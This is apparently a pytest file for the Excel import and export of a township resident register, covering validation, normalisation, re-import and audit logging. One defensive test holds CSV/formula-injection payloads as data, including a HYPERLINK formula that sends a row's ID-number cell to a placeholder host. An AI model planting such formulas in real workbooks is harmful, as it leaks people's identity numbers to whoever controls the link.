"""Excel in and out: every refused row named with its reason, nothing written unless asked, re-import is a no-op."""

import datetime as dt

import pytest
from openpyxl import Workbook, load_workbook

from desktop.services import audit_log, people_excel, people_template, township
from desktop.services.people_excel import HEADERS, ImportRefused
from tests.conftest import raw

GOOD = [
    "东山村",
    "一组",
    "0001",
    "东山村一组3号",
    "张伟",
    "430522199001011232",
    "户主",
    "常住",
    "",
    "13812345678",
    "2026-01-05",
    "",
]


def id_for(seq: int, birth="19900101", area="430522") -> str:
    from desktop.models.idnumber import check_character

    first17 = f"{area}{birth}{seq:03d}"
    return first17 + check_character(first17)


def workbook(tmp_path, *rows, name="roster.xlsx"):
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    for row in rows:
        ws.append(row)
    path = tmp_path / name
    wb.save(path)
    return path


def row(**changes):
    values = dict(zip([k for k, _ in people_excel.COLUMNS], GOOD, strict=True))
    values.update(changes)
    return [values[k] for k, _ in people_excel.COLUMNS]


@pytest.fixture
def township_db(database, township_draft):
    township.initialize(database, township_draft)
    return database


def persons(database) -> int:
    conn = raw(database)
    n = conn.execute("SELECT count(*) FROM person").fetchone()[0]
    conn.close()
    return n


def test_a_good_file_is_imported_with_households_and_audited(township_db, tmp_path):
    path = workbook(
        tmp_path,
        row(id_number=id_for(1)),
        row(id_number=id_for(2, "19920305"), name="李娜", relation="配偶", phone="0731-8765 4321"),
    )
    result = people_excel.import_file(township_db, path)
    assert (result.added, result.unchanged, result.refused) == (2, 0, 0)
    conn = raw(township_db)
    assert conn.execute("SELECT count(*) FROM household").fetchone()[0] == 1
    assert conn.execute("SELECT phone FROM person WHERE name='李娜'").fetchone()[0] == "0731-87654321"
    assert conn.execute("SELECT registered_on FROM person WHERE name='张伟'").fetchone()[0] == "2026-01-05"
    conn.close()
    actions = [e.action for e in audit_log.entries(township_db)]
    assert actions.count("create") >= 3 and "import" in actions


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"id_number": 430522199001011232}, "id_as_number"),
        ({"id_number": "430522199001011233"}, "id:checksum"),
        ({"village": "不存在村"}, "unknown_village"),
        ({"group": "九组"}, "unknown_group"),
        ({"registered_on": "05/01/2026"}, "date_format"),
        ({"registered_on": "2026-02-30"}, "date_format"),
        ({"residence_type": "常驻"}, "choice"),
        ({"phone": "12345"}, "phone_format"),
        ({"name": ""}, "required"),
    ],
)
def test_each_bad_cell_refuses_its_row_with_a_reason_and_nothing_is_written(
    township_db, tmp_path, changes, reason
):
    path = workbook(tmp_path, row(id_number=id_for(1)), row(**{"id_number": id_for(2), **changes}))
    plan = people_excel.preview(township_db, path)
    assert [r.row for r in plan.refused] == [3]
    assert reason in [p.reason for p in plan.refused[0].problems]
    assert plan.refused[0].reasons()  # a sentence for the clerk
    with pytest.raises(ImportRefused):
        people_excel.import_file(township_db, path)
    assert persons(township_db) == 0


@pytest.mark.parametrize(
    "typed", ["2026-01-05", "2026/1/5", "2026.1.5", "2026年1月5日", dt.datetime(2026, 1, 5)]
)
def test_the_listed_date_formats_and_excel_date_cells_are_accepted(township_db, tmp_path, typed):
    path = workbook(tmp_path, row(id_number=id_for(1), registered_on=typed))
    assert people_excel.import_file(township_db, path).added == 1
    conn = raw(township_db)
    assert conn.execute("SELECT registered_on FROM person").fetchone()[0] == "2026-01-05"
    conn.close()


def test_full_width_digits_spaces_and_lower_case_x_are_normalised(township_db, tmp_path):
    number = next(id_for(s) for s in range(100, 999) if id_for(s).endswith("X"))
    typed = " ".join(number[:-1]).translate(str.maketrans("0123456789", "０１２３４５６７８９")) + "x"
    path = workbook(tmp_path, row(id_number=typed))
    assert people_excel.import_file(township_db, path).added == 1
    conn = raw(township_db)
    assert conn.execute("SELECT id_number FROM person").fetchone()[0] == number
    conn.close()


def test_a_duplicate_within_the_file_is_refused_naming_the_first_row(township_db, tmp_path):
    path = workbook(tmp_path, row(id_number=id_for(1)), row(id_number=id_for(1), name="张伟伟"))
    plan = people_excel.preview(township_db, path)
    assert [(r.row, r.problems[0].reason, r.problems[0].params) for r in plan.refused] == [
        (3, "duplicate_in_file", {"first_row": 2})
    ]


def test_reimporting_the_same_file_changes_nothing_and_a_conflicting_row_is_refused(township_db, tmp_path):
    path = workbook(tmp_path, row(id_number=id_for(1)), row(id_number=id_for(2), name="王芳"))
    people_excel.import_file(township_db, path)
    entries = len(audit_log.entries(township_db))
    again = people_excel.import_file(township_db, path)
    assert (again.added, again.unchanged, again.refused) == (0, 2, 0)
    assert persons(township_db) == 2
    assert len(audit_log.entries(township_db)) == entries + 1  # only the import itself is recorded
    conflicting = workbook(tmp_path, row(id_number=id_for(1), name="张三"), name="other.xlsx")
    plan = people_excel.preview(township_db, conflicting)
    assert plan.refused[0].problems[0].reason == "id_registered"


def test_only_valid_rows_imports_the_good_ones_and_saves_the_rest_with_reasons(township_db, tmp_path):
    path = workbook(
        tmp_path,
        row(id_number=id_for(1)),
        row(id_number=id_for(2), village="不存在村"),
        row(id_number=id_for(3), name="赵敏"),
    )
    result = people_excel.import_file(township_db, path, only_valid=True)
    assert (result.added, result.refused) == (2, 1)
    errors = load_workbook(result.error_workbook).active
    header = [c.value for c in errors[1]]
    assert header[:2] == ["原行号", "未导入原因"] and header[2:] == list(HEADERS)
    second = [c.value for c in errors[2]]
    assert second[0] == 3 and "不存在村" in second[1] and second[2 + HEADERS.index("身份证号码")] == id_for(2)
    assert len(list(errors.iter_rows())) == 2


def test_the_error_workbook_can_be_fixed_and_imported_again(township_db, tmp_path):
    path = workbook(tmp_path, row(id_number=id_for(1)), row(id_number=id_for(2), village="不存在村"))
    result = people_excel.import_file(township_db, path, only_valid=True)
    wb = load_workbook(result.error_workbook)
    ws = wb.active
    ws.delete_cols(1, 2)  # drop the row number and reason columns
    ws.cell(row=2, column=1, value="东山村")
    wb.save(result.error_workbook)
    assert people_excel.import_file(township_db, result.error_workbook).added == 1
    assert persons(township_db) == 2


def test_a_workbook_without_the_template_columns_is_refused(township_db, tmp_path):
    wb = Workbook()
    wb.active.append(["序号", "名字"])
    wb.save(tmp_path / "x.xlsx")
    with pytest.raises(people_excel.NotATemplate) as caught:
        people_excel.preview(township_db, tmp_path / "x.xlsx")
    assert "身份证号码" in caught.value.missing


def test_the_template_has_drop_downs_and_text_columns(township_db, tmp_path):
    path = people_template.write_template(township_db, tmp_path / "template.xlsx")
    wb = load_workbook(path)
    ws = wb["居民登记"]
    assert [c.value for c in ws[1]] == list(HEADERS)
    assert ws["F2"].number_format == "@" and ws["J100"].number_format == "@"
    ranges = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation}
    assert "A2" in ranges and "H2" in ranges
    assert [c.value for c in wb["选项"]["A"] if c.value] == ["东山村", "河口社区"]
    assert wb["选项"].sheet_state == "hidden"


def test_the_template_lists_each_village_s_own_groups_in_order_and_explains_itself(township_db, tmp_path):
    """The 小组 drop-down depends on the village of its row and keeps the township's order (一组, 二组, … 十组,
    not 一组, 七组, 三组); the first sheet says what to fill and what happens to a refused row."""
    from desktop.models.units import GroupDraft

    draft = township.load_units(township_db)
    numerals = "一二三四五六七八九十"
    draft.villages[0].groups = [GroupDraft(f"{i:02d}", f"{numerals[i - 1]}组") for i in range(1, 11)]
    township.apply_units(township_db, draft)
    path = people_template.write_template(township_db, tmp_path / "template.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames[0] == "填写说明" and wb.active.title == "居民登记"
    explained = " ".join(str(c.value) for c in wb["填写说明"]["A"] if c.value)
    assert "必填" in explained and "2026年1月5日" in explained and "只导入合格的行" in explained
    names = wb.defined_names
    first = names["小组_1"].attr_text.split("!")[1].replace("$", "")
    column = first[0]
    listed = [c.value for c in wb["选项"][column] if c.value]
    assert listed == [f"{n}组" for n in numerals]
    groups_formula = next(
        dv.formula1 for dv in wb["居民登记"].data_validations.dataValidation if str(dv.sqref).startswith("B2")
    )
    assert "INDIRECT" in groups_formula and "小组_" in groups_formula
    # a filled template still imports: the rows are read from 居民登记, not from the instructions
    ws = wb["居民登记"]
    for c, value in enumerate(row(id_number=id_for(1), group="十组"), start=1):
        ws.cell(row=2, column=c, value=value)
    wb.save(path)
    assert people_excel.import_file(township_db, path).added == 1


def test_export_writes_the_filtered_register_with_full_numbers_and_is_audited(township_db, tmp_path):
    path = workbook(
        tmp_path,
        row(id_number=id_for(1)),
        row(id_number=id_for(2), residence_type="外出务工", work_away_place="广东省东莞市"),
    )
    people_excel.import_file(township_db, path)
    out = tmp_path / "export.xlsx"
    assert people_excel.export(township_db, out, residence_type="外出务工") == 1
    ws = load_workbook(out).active
    values = [c.value for c in ws[2]]
    assert values[HEADERS.index("身份证号码")] == id_for(2) and values[-2] == "女"
    assert audit_log.entries(township_db)[0].action == "export"
    # the export re-imports as unchanged: the same columns go both ways
    assert people_excel.preview(township_db, out).unchanged == 1


def test_export_follows_the_whole_register_filter(township_db, tmp_path):
    from desktop.services.residents import ResidentFilter

    path = workbook(
        tmp_path,
        row(id_number=id_for(1)),
        row(id_number=id_for(2), name="王芳"),
        row(id_number=id_for(3), name="王强"),
    )
    people_excel.import_file(township_db, path)
    out = tmp_path / "wang.xlsx"
    assert people_excel.export(township_db, out, flt=ResidentFilter(text="王")) == 2
    names = sorted(r[4].value for r in load_workbook(out).active.iter_rows(min_row=2))
    assert names == ["王强", "王芳"]
    assert "搜索“王”" in audit_log.entries(township_db)[0].detail


def test_imported_residents_are_found_by_their_pinyin_initials(township_db, tmp_path):
    from desktop.services import residents
    from desktop.services.residents import ResidentFilter

    people_excel.import_file(township_db, workbook(tmp_path, row(id_number=id_for(1), name="欧阳晓明")))
    assert len(residents.resident_ids(township_db, ResidentFilter(text="oyxm"))) == 1


def test_text_that_looks_like_a_formula_is_written_back_as_text(township_db, tmp_path):
    """A cell holding =HYPERLINK(…) (or +, -, @ in front) is a string when it comes in, and stays a string in every
    workbook the program writes: the export and the error workbook. Opened in Excel or WPS it is not run."""
    from desktop.services import files

    payloads = ['=HYPERLINK("http://example.invalid/?"&F2,"点此")', "+1+1", "-2+3", "@SUM(A1)"]
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    rows = [row(id_number=id_for(i + 1), notes=p, address=p) for i, p in enumerate(payloads)]
    rows.append(row(id_number=id_for(9), village="不存在村", notes=payloads[0]))
    for r, values in enumerate(rows, start=2):
        for c, value in enumerate(values, start=1):
            files.set_text(ws.cell(r, c), value)  # typed in as text, as a spreadsheet holds it
    source = tmp_path / "in.xlsx"
    wb.save(source)
    result = people_excel.import_file(township_db, source, only_valid=True)
    assert result.added == len(payloads)
    people_excel.export(township_db, tmp_path / "out.xlsx")
    out = load_workbook(tmp_path / "out.xlsx").active
    header = [c.value for c in out[1]]
    notes = [out.cell(r, header.index("备注") + 1) for r in range(2, out.max_row + 1)]
    assert sorted(c.value for c in notes) == sorted(payloads)
    assert all(c.data_type == "s" for c in notes)
    errors = load_workbook(result.error_workbook).active
    note = errors.cell(2, 2 + HEADERS.index("备注") + 1)
    assert note.value == payloads[0] and note.data_type == "s"


def test_a_household_number_without_its_leading_zeros_is_the_same_household(township_db, tmp_path):
    """ "8" typed beside the registered "000008" joins that household, in the form and in an import alike."""
    from desktop.services import people

    def draft(seq: int, number: str) -> people.ResidentDraft:
        values = dict(zip([k for k, _ in people_excel.COLUMNS], row(id_number=id_for(seq)), strict=True))
        return people.ResidentDraft(**{**values, "household_number": number, "registered_on": None})

    people.add_resident(township_db, draft(1, "000008"))
    people.add_resident(township_db, draft(2, "8"))  # the form
    people_excel.import_file(township_db, workbook(tmp_path, row(id_number=id_for(3), household_number="08")))
    conn = raw(township_db)
    households = conn.execute("SELECT DISTINCT household_id FROM person").fetchall()
    numbers = conn.execute("SELECT number, group_id FROM household").fetchall()
    conn.close()
    assert len(households) == 1 and [n for n, _ in numbers] == ["000008"]
    assert people.households_of_group(township_db, numbers[0][1])[0][0] == "000008"
